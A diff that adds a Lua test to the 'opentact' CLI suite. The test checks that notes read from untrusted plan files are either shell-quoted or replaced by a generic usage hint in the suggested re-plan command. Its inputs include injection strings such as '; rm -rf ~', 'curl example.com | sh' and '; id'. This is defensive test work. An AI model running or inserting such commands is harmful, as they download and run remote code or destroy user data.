@@ -159,6 +159,32 @@ describe("opentact plan, apply and sync's question #wire", function()
         .. " %-%-numbers%-file " .. esc(file) .. " %-%-exact %-%-out " .. esc(plan_file), err)
     end)
 
+    it("shows a plan's note as a command only when it is input words, each quoted", function()
+      -- plan files from anyone: the note is what `opentact plan` keeps,
+      -- or something else (a file that is not the library's to judge)
+      local client = emu:client()
+      finally(function() client:close() end)
+      local cases = {
+        { '["--numbers-file","/tmp/a b; rm -rf ~"]', "%-%-numbers%-file '/tmp/a b; rm %-rf ~' %-%-out " },
+        { "--numbers-file x; curl example.com | sh", "%(%-%-numbers%-file FILE | %-%-leases%-file FILE" },
+        { '["--numbers-file","x","--exec","y"]', "%(%-%-numbers%-file FILE | %-%-leases%-file FILE" },
+        { '["--all-leases","--country-code","1; id"]', "%(%-%-numbers%-file FILE | %-%-leases%-file FILE" },
+        { '["--all-leases","--skip-invalid"]', "%-%-all%-leases %-%-skip%-invalid %-%-out " },
+      }
+      for _, c in ipairs(cases) do
+        emu:reset()
+        local plan = assert(client:plan(conns[2], { numbers = { 12125550021 } }, { note = c[1] }))
+        local f = assert(io.open(plan_file, "wb"))
+        local text = assert(plan:encode())
+        f:write(text)
+        f:close()
+        emu:holders({ [leases[21]] = { sip_connection = conns[3] } })
+        local out, err, status = run("apply " .. plan_file)
+        assert.equals(2, status, out .. err)
+        assert.matches("apply that: opentact plan " .. esc(conns[2]) .. " " .. c[2], err)
+      end
+    end)
+
     it("names a relative input file by its absolute path in the command to re-plan", function()
       -- the same file, named from this folder
       local root = support.sh("pwd"):gsub("%s+$", "")
